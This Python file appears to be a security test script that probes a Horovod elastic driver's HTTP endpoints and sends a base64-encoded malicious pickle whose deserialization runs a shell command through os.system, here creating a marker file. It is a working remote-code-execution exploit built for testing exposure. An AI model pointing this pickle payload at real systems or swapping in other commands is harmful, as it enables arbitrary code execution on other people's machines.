"""What someone who is no part of a job tries against its network services.

python tests/attacker.py HOST PORT FILE    tries to have FILE made by whatever listens there; prints each answer
"""

from __future__ import annotations

import base64
import http.client
import os
import pickle
import sys
from pathlib import Path


class Touch:
    """A pickle that makes a file where it is read."""

    def __init__(self, file: Path) -> None:
        self.file = file

    def __reduce__(self) -> tuple[object, ...]:
        return os.system, (f"touch '{self.file}'",)


def evil(file: Path) -> bytes:
    """A message for Horovod's elastic driver that makes a file."""
    return base64.b64encode(pickle.dumps(({}, Touch(file))))


def ask(address: str, port: int, method: str, path: str, body: bytes | None = None) -> tuple[int, bytes]:
    """Status and body of an answer over HTTP; status 0: whatever listens there closes the connection."""
    connection = http.client.HTTPConnection(address, port, timeout=10)
    try:
        connection.request(method, path, body)
        answer = connection.getresponse()
        return answer.status, answer.read()
    except (http.client.HTTPException, OSError):
        return 0, b""
    finally:
        connection.close()


def attack(address: str, port: int, file: Path) -> list[tuple[int, bytes]]:
    """Asks for a rank's key and for a rank's place, and sends code as a rank's address."""
    keys = [f"{host}:{slot}" for host in ("localhost", "127.0.0.1", "host1", "host2") for slot in (0, 1)]
    found = [ask(address, port, "GET", f"/worker_addresses/{key}") for key in keys]
    found += [ask(address, port, "GET", f"/rank_and_size/{keys[0]}")]
    return [*found, ask(address, port, "PUT", f"/worker_addresses/{keys[0]}", evil(file))]


if __name__ == "__main__":
    for answer in attack(sys.argv[1], int(sys.argv[2]), Path(sys.argv[3])):
        print(*answer)
